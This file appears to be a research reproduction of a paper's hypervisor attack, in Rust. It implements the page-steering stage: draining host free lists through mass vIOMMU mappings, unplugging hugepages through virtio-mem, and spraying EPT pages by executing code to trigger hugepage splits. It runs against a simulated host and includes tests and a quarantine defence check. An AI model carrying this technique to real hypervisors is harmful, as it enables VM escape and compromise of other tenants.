@@ -1,0 +1,384 @@
+//! Page Steering (§4.2): coercing the hypervisor into placing EPT pages
+//! on attacker-chosen physical frames.
+//!
+//! Three sub-steps, each with its own method:
+//!
+//! 1. [`PageSteering::exhaust_noise`] — drain the host's small-order
+//!    `MIGRATE_UNMOVABLE` free blocks by creating tens of thousands of
+//!    vIOMMU mappings of a single guest page, 2 MiB apart in IOVA space,
+//!    each consuming one IOPT page (§4.2.1 / Figure 3).
+//! 2. [`PageSteering::release_hugepages`] — voluntarily unplug the
+//!    hugepages holding vulnerable bits through virtio-mem; each lands on
+//!    the host free lists as an order-9 `MIGRATE_UNMOVABLE` block
+//!    (§4.2.2).
+//! 3. [`PageSteering::spray_ept`] — write the idling function into
+//!    hugepages and execute it, triggering the iTLB-Multihit
+//!    countermeasure once per hugepage; each split allocates one EPT page
+//!    from the small-order unmovable lists — which, post-exhaustion, are
+//!    fed by splitting the attacker's released blocks (§4.2.3).
+
+use hh_hv::{Host, HvError, Vm};
+use hh_sim::addr::{Gpa, Iova, HUGE_PAGE_SIZE};
+use hh_sim::clock::SimInstant;
+
+/// Machine code of the paper's Listing 1 — an idling function
+/// (`push %rbp; mov %rsp,%rbp; nop…; pop %rbp; ret`). The attack only
+/// needs *something executable* on the hugepage; this is that something.
+pub const IDLE_FUNCTION: [u8; 16] = [
+    0x55, // push %rbp
+    0x48, 0x89, 0xe5, // mov %rsp,%rbp
+    0x90, 0x90, 0x90, 0x90, 0x90, 0x90, 0x90, 0x90, 0x90, 0x90, // nop sled
+    0x5d, // pop %rbp
+    0xc3, // ret
+];
+
+/// Steering parameters.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct SteeringParams {
+    /// Number of vIOMMU mappings to create (§5.2 uses 60 000).
+    pub iova_mappings: u64,
+    /// First I/O virtual address (§5.2 uses 0x1_0000_0000).
+    pub iova_base: u64,
+    /// Sample the noise-page count after every this many mappings.
+    pub mapping_batch: u64,
+    /// Artificial delay between batches (Figure 3 inserts 1 s per 1 000
+    /// mappings to make the curve legible).
+    pub batch_delay_secs: u64,
+}
+
+impl SteeringParams {
+    /// Paper settings.
+    pub fn paper() -> Self {
+        Self {
+            iova_mappings: 60_000,
+            iova_base: 0x1_0000_0000,
+            mapping_batch: 1_000,
+            batch_delay_secs: 1,
+        }
+    }
+}
+
+/// One point of the Figure 3 noise curve.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct NoiseSample {
+    /// Simulated time of the sample.
+    pub time: SimInstant,
+    /// vIOMMU mappings established so far.
+    pub mappings: u64,
+    /// Free small-order `MIGRATE_UNMOVABLE` pages on the host.
+    pub noise_pages: u64,
+}
+
+/// Result of the EPT-spraying step.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub struct SprayStats {
+    /// Hugepages executed.
+    pub hugepages_executed: u64,
+    /// Splits actually triggered (fresh EPT pages allocated).
+    pub splits: u64,
+}
+
+/// Page reuse accounting — the quantities of Table 2.
+#[derive(Debug, Clone, Copy, PartialEq, Default)]
+pub struct ReuseStats {
+    /// `N`: pages released by the VM.
+    pub released_pages: u64,
+    /// `E`: EPT pages in the system.
+    pub ept_pages: u64,
+    /// `R`: released pages now reused as EPT pages.
+    pub reused_pages: u64,
+}
+
+impl ReuseStats {
+    /// `R_N = R / N`.
+    pub fn r_n(&self) -> f64 {
+        if self.released_pages == 0 {
+            0.0
+        } else {
+            self.reused_pages as f64 / self.released_pages as f64
+        }
+    }
+
+    /// `R_E = R / E`.
+    pub fn r_e(&self) -> f64 {
+        if self.ept_pages == 0 {
+            0.0
+        } else {
+            self.reused_pages as f64 / self.ept_pages as f64
+        }
+    }
+}
+
+/// The Page Steering engine.
+#[derive(Debug, Clone)]
+pub struct PageSteering {
+    params: SteeringParams,
+}
+
+impl PageSteering {
+    /// Creates the engine with the given parameters.
+    pub fn new(params: SteeringParams) -> Self {
+        Self { params }
+    }
+
+    /// Step 1: exhaust small-order unmovable free blocks via vIOMMU.
+    ///
+    /// Maps one guest page (the first page of boot RAM) at
+    /// `iova_mappings` IOVAs spaced 2 MiB apart so every mapping burns a
+    /// fresh IOPT page. Returns the sampled noise curve (Figure 3).
+    ///
+    /// # Errors
+    ///
+    /// Stops early and returns `Ok` on [`HvError::IommuMapLimit`];
+    /// propagates other hypervisor errors.
+    pub fn exhaust_noise(
+        &self,
+        host: &mut Host,
+        vm: &mut Vm,
+    ) -> Result<Vec<NoiseSample>, HvError> {
+        let target_page = Gpa::new(0); // one page in the attacker's space
+        let mut samples = vec![NoiseSample {
+            time: host.now(),
+            mappings: 0,
+            noise_pages: host.noise_pages(),
+        }];
+        for i in 0..self.params.iova_mappings {
+            let iova = Iova::new(self.params.iova_base + i * HUGE_PAGE_SIZE);
+            match vm.iommu_map(host, 0, iova, target_page) {
+                Ok(()) => {}
+                Err(HvError::IommuMapLimit) => break,
+                Err(e) => return Err(e),
+            }
+            if (i + 1) % self.params.mapping_batch == 0 {
+                host.charge_nanos(self.params.batch_delay_secs * 1_000_000_000);
+                samples.push(NoiseSample {
+                    time: host.now(),
+                    mappings: i + 1,
+                    noise_pages: host.noise_pages(),
+                });
+            }
+        }
+        samples.push(NoiseSample {
+            time: host.now(),
+            mappings: self.params.iova_mappings,
+            noise_pages: host.noise_pages(),
+        });
+        Ok(samples)
+    }
+
+    /// Step 2: voluntarily release the given hugepages to the host.
+    ///
+    /// Returns the sub-blocks actually released. Fails fast on the
+    /// quarantine countermeasure.
+    ///
+    /// # Errors
+    ///
+    /// Propagates [`HvError::QuarantineNack`] and allocation errors;
+    /// skips sub-blocks that are already gone.
+    pub fn release_hugepages(
+        &self,
+        host: &mut Host,
+        vm: &mut Vm,
+        hugepages: &[Gpa],
+    ) -> Result<Vec<Gpa>, HvError> {
+        let mut released = Vec::new();
+        let mut targets: Vec<Gpa> = hugepages
+            .iter()
+            .map(|g| g.align_down(HUGE_PAGE_SIZE))
+            .collect();
+        targets.sort_unstable();
+        targets.dedup();
+        for hp in targets {
+            match vm.virtio_mem_unplug(host, hp) {
+                Ok(()) => released.push(hp),
+                Err(HvError::NotPlugged(_)) => {} // already released
+                Err(e) => return Err(e),
+            }
+        }
+        Ok(released)
+    }
+
+    /// Step 3: spray EPT pages by executing the idling function on up to
+    /// `spray_bytes` of still-plugged hugepages.
+    ///
+    /// Per §4.2.3, releasing `N` hugepages calls for at least
+    /// `512 × (N + 2)` EPT pages, i.e. `N + 2` GiB of sprayed memory —
+    /// use [`Self::spray_budget`] to compute it.
+    ///
+    /// # Errors
+    ///
+    /// Propagates hypervisor errors (allocation failures abort the
+    /// spray).
+    pub fn spray_ept(
+        &self,
+        host: &mut Host,
+        vm: &mut Vm,
+        spray_bytes: u64,
+    ) -> Result<SprayStats, HvError> {
+        let mut stats = SprayStats::default();
+        let ranges = vm.usable_ranges();
+        let mut budget = spray_bytes;
+        for (base, len) in ranges {
+            for off in (0..len).step_by(HUGE_PAGE_SIZE as usize) {
+                if budget < HUGE_PAGE_SIZE {
+                    return Ok(stats);
+                }
+                let hp = base.add(off);
+                // Write the idling function, then call it.
+                vm.write_gpa(host, hp, &IDLE_FUNCTION)?;
+                let split = vm.exec_gpa(host, hp)?;
+                stats.hugepages_executed += 1;
+                if split {
+                    stats.splits += 1;
+                }
+                budget -= HUGE_PAGE_SIZE;
+            }
+        }
+        Ok(stats)
+    }
+
+    /// The §4.2.3 spray sizing rule: `(N + 2)` GiB for `N` released
+    /// hugepages (at least `512 × (N + 2)` EPT pages).
+    pub fn spray_budget(released_hugepages: usize) -> u64 {
+        (released_hugepages as u64 + 2) << 30
+    }
+
+    /// Table 2 accounting: intersects the host's released-page log with
+    /// the VM's current EPT pages.
+    pub fn reuse_stats(host: &Host, vm: &Vm) -> ReuseStats {
+        let released = host.released_log();
+        let ept: std::collections::HashSet<u64> = vm
+            .ept_table_pages(host)
+            .into_iter()
+            .map(|(pfn, _)| pfn.index())
+            .collect();
+        let reused = released.iter().filter(|p| ept.contains(&p.index())).count() as u64;
+        ReuseStats {
+            released_pages: released.len() as u64,
+            ept_pages: ept.len() as u64,
+            reused_pages: reused,
+        }
+    }
+
+    /// Runs all three steps for the given victim hugepages, sizing the
+    /// spray by the §4.2.3 rule (capped by the VM's plugged memory).
+    ///
+    /// # Errors
+    ///
+    /// Propagates hypervisor errors, including the quarantine NACK.
+    pub fn run(
+        &self,
+        host: &mut Host,
+        vm: &mut Vm,
+        victim_hugepages: &[Gpa],
+    ) -> Result<(Vec<NoiseSample>, Vec<Gpa>, SprayStats), HvError> {
+        let noise = self.exhaust_noise(host, vm)?;
+        let released = self.release_hugepages(host, vm, victim_hugepages)?;
+        let stats = self.spray_ept(host, vm, Self::spray_budget(released.len()))?;
+        Ok((noise, released, stats))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::machine::Scenario;
+
+    fn setup() -> (hh_hv::Host, hh_hv::Vm, PageSteering) {
+        let sc = Scenario::tiny_demo();
+        let mut host = sc.boot_host();
+        let vm = host.create_vm(sc.vm_config()).unwrap();
+        let steering = PageSteering::new(sc.steering_params());
+        (host, vm, steering)
+    }
+
+    #[test]
+    fn exhaust_drains_noise_pages() {
+        let (mut host, mut vm, steering) = setup();
+        let samples = steering.exhaust_noise(&mut host, &mut vm).unwrap();
+        assert!(samples.len() >= 2);
+        let first = samples.first().unwrap();
+        let last = samples.last().unwrap();
+        // The curve goes down (modulo split sawtooth) and ends below the
+        // 1 024-page threshold the paper draws in Figure 3.
+        assert!(first.noise_pages > 0);
+        assert!(last.noise_pages < 1_024, "ended at {}", last.noise_pages);
+        assert!(last.time > first.time, "delays advance the clock");
+    }
+
+    #[test]
+    fn release_produces_order9_unmovable_blocks() {
+        let (mut host, mut vm, steering) = setup();
+        let base = vm.virtio_mem().region_base();
+        let victims = [base.add(4 * HUGE_PAGE_SIZE), base.add(9 * HUGE_PAGE_SIZE)];
+        let released = steering.release_hugepages(&mut host, &mut vm, &victims).unwrap();
+        assert_eq!(released.len(), 2);
+        assert_eq!(host.released_log().len(), 2 * 512);
+        // Duplicate release is a no-op.
+        let again = steering.release_hugepages(&mut host, &mut vm, &victims).unwrap();
+        assert!(again.is_empty());
+    }
+
+    #[test]
+    fn spray_splits_hugepages_and_allocates_ept_pages() {
+        let (mut host, mut vm, steering) = setup();
+        let leaves_before = vm.ept_leaf_pages(&host).len();
+        let stats = steering.spray_ept(&mut host, &mut vm, 10 * HUGE_PAGE_SIZE).unwrap();
+        assert_eq!(stats.hugepages_executed, 10);
+        assert_eq!(stats.splits, 10);
+        assert_eq!(vm.ept_leaf_pages(&host).len(), leaves_before + 10);
+        // Spraying the same region again splits nothing.
+        let stats2 = steering.spray_ept(&mut host, &mut vm, 10 * HUGE_PAGE_SIZE).unwrap();
+        assert_eq!(stats2.splits, 0);
+    }
+
+    #[test]
+    fn full_steering_reuses_released_pages_for_ept() {
+        // Needs the mid-size scenario: the spray must out-volume the PCP
+        // plus split-remnant noise floor (§4.2.3's sizing rule).
+        let sc = Scenario::small_attack();
+        let mut host = sc.boot_host();
+        let mut vm = host.create_vm(sc.vm_config()).unwrap();
+        let steering = PageSteering::new(sc.steering_params());
+        host.reset_released_log();
+        let base = vm.virtio_mem().region_base();
+        let victims: Vec<_> = (0..4u64).map(|i| base.add(i * HUGE_PAGE_SIZE)).collect();
+        let (_noise, released, spray) = steering.run(&mut host, &mut vm, &victims).unwrap();
+        assert_eq!(released.len(), 4);
+        assert!(spray.splits > 512, "spray must out-volume the noise floor");
+        let reuse = PageSteering::reuse_stats(&host, &vm);
+        assert_eq!(reuse.released_pages, 4 * 512);
+        assert!(
+            reuse.reused_pages > 0,
+            "post-exhaustion EPT allocations must hit released blocks: {reuse:?}"
+        );
+        assert!(reuse.r_n() > 0.0 && reuse.r_e() > 0.0);
+        assert!(reuse.r_n() <= 1.0 && reuse.r_e() <= 1.0);
+    }
+
+    #[test]
+    fn quarantine_blocks_the_release_step() {
+        let sc = Scenario::tiny_demo().with_quarantine();
+        let mut host = sc.boot_host();
+        let mut vm = host.create_vm(sc.vm_config()).unwrap();
+        let steering = PageSteering::new(sc.steering_params());
+        let base = vm.virtio_mem().region_base();
+        let err = steering
+            .release_hugepages(&mut host, &mut vm, &[base])
+            .unwrap_err();
+        assert!(matches!(err, HvError::QuarantineNack { .. }));
+    }
+
+    #[test]
+    fn spray_budget_rule() {
+        assert_eq!(PageSteering::spray_budget(0), 2 << 30);
+        assert_eq!(PageSteering::spray_budget(12), 14 << 30);
+    }
+
+    #[test]
+    fn idle_function_is_listing1_shaped() {
+        assert_eq!(IDLE_FUNCTION[0], 0x55); // push %rbp
+        assert_eq!(IDLE_FUNCTION[IDLE_FUNCTION.len() - 1], 0xc3); // ret
+        assert!(IDLE_FUNCTION.iter().filter(|&&b| b == 0x90).count() >= 8);
+    }
+}
